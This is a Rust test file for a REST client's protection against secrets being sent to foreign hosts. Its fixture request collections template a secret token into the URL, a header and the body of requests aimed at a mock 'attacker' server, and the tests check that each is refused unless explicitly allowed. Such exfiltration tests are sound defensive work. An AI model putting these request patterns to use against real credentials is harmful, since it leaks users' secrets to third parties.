//! 3. Stored secrets went wherever the URL pointed: any secret variable (the secret store
//!    or `AYON_SECRET_<NAME>`) could be put into a foreign URL, header or body, and a
//!    pulled commit could add `secret: true` names to make the runner read more stored
//!    values. Now a secret goes only to the origins it is bound to, kept with the value on
//!    this computer (`AYON_SECRET_<NAME>`: `--server` / `AYON_SERVER_URL`); anything else
//!    is refused naming the variable and the host, unless `--allow-host ORIGIN` (the
//!    runner) or a one-time question (the window) allows it.

use std::sync::Arc;
use std::time::Duration;

use egui_kittest::kittest::Queryable;

use ayon_rest_explorer::app::AppOptions;
use ayon_rest_explorer::ayon::AuthMode;
use ayon_rest_explorer::collection::environment::{Environment, Variable, save_environment};
use ayon_rest_explorer::collection::secrets::{
    FileStore, SecretKey, SecretStore, StoredSecret, collection_id,
};
use ayon_rest_explorer::collection::store::Collection;
use ayon_rest_explorer::secret::Secret;
use ayon_rest_explorer::settings::Settings;
use ayon_rest_explorer::state::RequestState;
use ayon_rest_explorer::vault::VaultSource;

use crate::harness::{app_with, temp_dir};
use crate::kit::{arg, collection, foreign_server, run};

const SECRET: &str = "ci-secret-7d1f-never-abroad";

/// A collection whose environment `ci` has the secret `api_token`, sent to `home` (a
/// relative URL) and then to `attacker` in its URL, a header and the body.
fn exfiltrating_collection(attacker: &str) -> tempfile::TempDir {
    collection(&[
        (
            "environments/ci.yml",
            "variables:\n  - name: api_token\n    secret: true\n",
        ),
        (
            "1-home.yml",
            "name: Home\nmethod: GET\nurl: /api/ok\nheaders:\n  - name: X-Token\n    value: \"{{api_token}}\"\n",
        ),
        (
            "2-url.yml",
            &format!(
                "name: In the URL\nmethod: GET\nurl: {attacker}/collect?t={{{{api_token}}}}\n"
            ),
        ),
        (
            "3-header.yml",
            &format!(
                "name: In a header\nmethod: GET\nurl: {attacker}/collect\nheaders:\n  - name: X-Custom-Token\n    value: \"{{{{api_token}}}}\"\n"
            ),
        ),
        (
            "4-body.yml",
            &format!(
                "name: In the body\nmethod: POST\nurl: {attacker}/collect\nbody:\n  mode: text\n  text: \"token={{{{api_token}}}}\"\n"
            ),
        ),
    ])
}

#[tokio::test(flavor = "multi_thread")]
async fn an_ayon_secret_goes_only_to_the_run_server() {
    let home = foreign_server().await;
    let attacker = foreign_server().await;
    let dir = exfiltrating_collection(&attacker.url);
    let result = run(
        vec![
            arg(dir.path()),
            "--env".into(),
            "ci".into(),
            "--server".into(),
            home.url.clone(),
        ],
        vec![("AYON_SECRET_API_TOKEN".into(), SECRET.into())],
    )
    .await;
    assert_eq!(result.code, 1, "{}", result.all());
    let refusal = format!(
        "The secret {{{{api_token}}}} may go only to {}, but this request goes to {}: nothing \
         was sent. To send it there, pass --allow-host {}",
        home.url, attacker.url, attacker.url
    );
    assert_eq!(
        result.stdout.matches(&refusal).count(),
        3,
        "URL, header and body are each refused:\n{}",
        result.all()
    );
    assert!(result.stdout.contains("PASS  Home"), "{}", result.all());
    assert_eq!(
        home.received()
            .first()
            .and_then(|r| r.header("x-token").map(str::to_owned)),
        Some(SECRET.to_owned()),
        "the run's server gets it"
    );
    assert!(
        attacker.received().is_empty(),
        "nothing may reach the foreign host"
    );
    result.assert_reveals_none(&[SECRET]);
}

#[tokio::test(flavor = "multi_thread")]
async fn allow_host_lets_the_secrets_go_there() {
    let home = foreign_server().await;
    let attacker = foreign_server().await;
    let dir = exfiltrating_collection(&attacker.url);
    let result = run(
        vec![
            arg(dir.path()),
            "--env".into(),
            "ci".into(),
            "--server".into(),
            home.url.clone(),
            "--allow-host".into(),
            attacker.url.clone(),
        ],
        vec![("AYON_SECRET_API_TOKEN".into(), SECRET.into())],
    )
    .await;
    assert_eq!(result.code, 0, "{}", result.all());
    let received = attacker.received();
    assert_eq!(received.len(), 3, "{}", result.all());
    let query = format!("/collect?t={SECRET}");
    assert!(received.iter().any(|r| r.path_and_query == query));
    assert!(
        received
            .iter()
            .any(|r| r.header("x-custom-token") == Some(SECRET))
    );
    let body = format!("token={SECRET}").into_bytes();
    assert!(received.iter().any(|r| r.body == body));
    // Allowed is not shown: the value stays masked in every line.
    result.assert_reveals_none(&[SECRET]);
    // Not an origin: a usage error, named, before anything is sent.
    let result = run(
        vec![
            arg(dir.path()),
            "--env".into(),
            "ci".into(),
            "--allow-host".into(),
            "ftp://files.example".into(),
        ],
        vec![("AYON_SECRET_API_TOKEN".into(), SECRET.into())],
    )
    .await;
    assert_eq!(result.code, 2, "{}", result.all());
    assert!(
        result
            .stderr
            .contains("--allow-host ftp://files.example is not an origin"),
        "{}",
        result.all()
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn the_collections_base_url_does_not_bind_an_ayon_secret() {
    let attacker = foreign_server().await;
    // The collection names the attacker as its server: relative URLs go there, but an
    // AYON_SECRET_ value is the CI operator's and follows only --server / AYON_SERVER_URL.
    let dir = collection(&[
        (
            "collection.yml",
            &format!(
                "name: Shared\ndefaults:\n  auth_mode: none\n  base_url: {}\n",
                attacker.url
            ),
        ),
        (
            "environments/ci.yml",
            "variables:\n  - name: api_token\n    secret: true\n",
        ),
        (
            "steal.yml",
            "name: Steal\nmethod: GET\nurl: /collect?t={{api_token}}\n",
        ),
    ]);
    let result = run(
        vec![arg(dir.path()), "--env".into(), "ci".into()],
        vec![("AYON_SECRET_API_TOKEN".into(), SECRET.into())],
    )
    .await;
    assert_eq!(result.code, 1, "{}", result.all());
    assert!(
        result.stdout.contains(&format!(
            "The secret {{{{api_token}}}} is bound to no server (AYON_SECRET_API_TOKEN goes \
             only to --server or AYON_SERVER_URL, and this run has neither), but this \
             request goes to {}",
            attacker.url
        )),
        "{}",
        result.all()
    );
    assert!(attacker.received().is_empty());
    result.assert_reveals_none(&[SECRET]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_stored_value_keeps_the_binding_it_was_stored_with() {
    let home = foreign_server().await;
    let attacker = foreign_server().await;
    // A pulled commit declares `team_key` secret and sends it abroad. Its value was stored
    // on this computer for https://team.example, and the binding lives with the value.
    let dir = collection(&[
        (
            "environments/ci.yml",
            "variables:\n  - name: team_key\n    secret: true\n",
        ),
        (
            "steal.yml",
            &format!(
                "name: Steal\nmethod: GET\nurl: {}/collect\nheaders:\n  - name: X-Key\n    value: \"{{{{team_key}}}}\"\n",
                attacker.url
            ),
        ),
    ]);
    let data_home = tempfile::tempdir().expect("data home");
    let store = FileStore::new(
        data_home
            .path()
            .join("ayon-rest-explorer")
            .join("secrets.json"),
    );
    let key = SecretKey::new(collection_id(dir.path()), "ci", "team_key");
    let stored = StoredSecret::bound(Secret::new(SECRET), vec!["https://team.example".into()]);
    store.set_bound(&key, &stored).expect("seed the store");
    let result = run(
        vec![
            arg(dir.path()),
            "--env".into(),
            "ci".into(),
            "--server".into(),
            home.url.clone(),
        ],
        vec![(
            "XDG_DATA_HOME".into(),
            data_home.path().to_string_lossy().into_owned(),
        )],
    )
    .await;
    assert_eq!(result.code, 1, "{}", result.all());
    assert!(
        result.stdout.contains(&format!(
            "The secret {{{{team_key}}}} may go only to https://team.example, but this \
             request goes to {}",
            attacker.url
        )),
        "{}",
        result.all()
    );
    assert!(attacker.received().is_empty() && home.received().is_empty());
    result.assert_reveals_none(&[SECRET]);
}

/// The window asks once before a secret goes to an origin it is not bound to; "Don't
/// send" sends nothing, "Send and remember" sends and is not asked again.
#[test]
fn the_window_asks_once_before_a_secret_goes_elsewhere() {
    const WAIT: Duration = Duration::from_secs(15);
    let io = crate::harness::io_runtime();
    let attacker = io.block_on(foreign_server());
    let base = temp_dir("hostile-secret");
    let root = base.join("collection");
    Collection::create(&root, "Shared").expect("collection");
    let mut env = Environment::new("dev");
    env.variables.push(Variable::plain("host", &attacker.url));
    env.variables.push(Variable::secret("key"));
    save_environment(&root, &env).expect("environment");
    let store = FileStore::new(base.join("data").join("secrets.json"));
    let key = SecretKey::new(collection_id(&root), "dev", "key");
    let stored = StoredSecret::bound(Secret::new(SECRET), vec!["https://team.example".into()]);
    store.set_bound(&key, &stored).expect("seed the store");
    let settings_path = base.join("config").join("settings.toml");
    let mut app = app_with(AppOptions {
        settings: Settings {
            open_collection: Some(root.to_string_lossy().into_owned()),
            ..Settings::default()
        },
        settings_path: Some(settings_path.clone()),
        secret_store: Some(VaultSource::Store(Arc::new(store))),
        ..AppOptions::default()
    });
    app.wait_for_text("No saved requests yet.", WAIT);
    app.step_until("the secret value is loaded", WAIT, |h| {
        h.state().state().collection.variables().value("key") == Some(SECRET)
    });
    app.harness.state_mut().state_mut().tabs[0].draft.auth.mode = AuthMode::None;
    app.fill("URL", "{{host}}/collect");
    app.harness.get_by_label_contains("Headers (").click();
    app.harness.step();
    app.fill("Header 2 name", "X-Custom-Token");
    app.fill("Header 2 value", "{{key}}");

    let question = "Send a secret to another server?";
    app.click("Send");
    app.wait_for_text(question, WAIT);
    assert!(app.shows(&format!(
        "This request would send {{{{key}}}} to {}",
        attacker.url
    )));
    assert!(app.shows("{{key}} is kept for https://team.example."));
    app.click("Don't send");
    app.harness.step();
    assert!(!app.shows(question));
    assert!(attacker.received().is_empty(), "nothing went out");

    app.click("Send");
    app.wait_for_text(question, WAIT);
    app.click("Send and remember");
    app.step_until("the first answer", WAIT, |h| {
        matches!(h.state().state().tabs[0].state, RequestState::Done(_))
    });
    assert_eq!(attacker.received().len(), 1);
    assert_eq!(
        attacker.received()[0].header("x-custom-token"),
        Some(SECRET)
    );

    // Remembered: the next send goes without a question.
    app.click("Send");
    app.step_until("the second answer", WAIT, |_| {
        attacker.received().len() == 2
    });
    assert!(!app.shows(question));
    // The answer is in the local settings, by name and origin only.
    app.step_until("the settings are written", WAIT, |_| settings_path.exists());
    let settings = std::fs::read_to_string(&settings_path).unwrap_or_default();
    assert!(settings.contains(&attacker.url), "{settings}");
    assert!(!settings.contains(SECRET), "{settings}");
    let _ = std::fs::remove_dir_all(&base);
}
